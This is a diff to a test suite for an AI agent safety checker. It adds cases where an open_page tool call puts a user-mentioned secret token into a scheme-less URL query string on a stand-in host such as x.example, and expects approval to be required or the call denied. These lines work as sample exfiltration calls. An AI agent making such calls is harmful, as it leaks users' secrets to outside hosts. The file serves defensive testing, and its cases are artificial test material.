@@ -47,6 +47,20 @@ describe('agentSafety and a secret that the user said', () => {
       'REQUIRE_APPROVAL',
     ],
     [
+      'from a tool in a URL without a scheme',
+      'open_page',
+      { url: `www.x.example/r?token=${TOKEN}` },
+      said('Read it.', `See www.x.example/r?token=${TOKEN}.`),
+      'REQUIRE_APPROVAL',
+    ],
+    ...['www.x.example', 'x.example'].map((host): [string, string, Record<string, unknown>, Conversation, string] => [
+      `read at ${host}, which has no scheme`,
+      'open_page',
+      { url: `${host}/r?q=${TOKEN}` },
+      said('Read it.', `See ${host}. ${TOKEN}`),
+      'DENY',
+    ]),
+    [
       'from a tool in another URL',
       'open_page',
       { url: `https://shop.example/?u=${encodeURIComponent(SIGNED)}` },
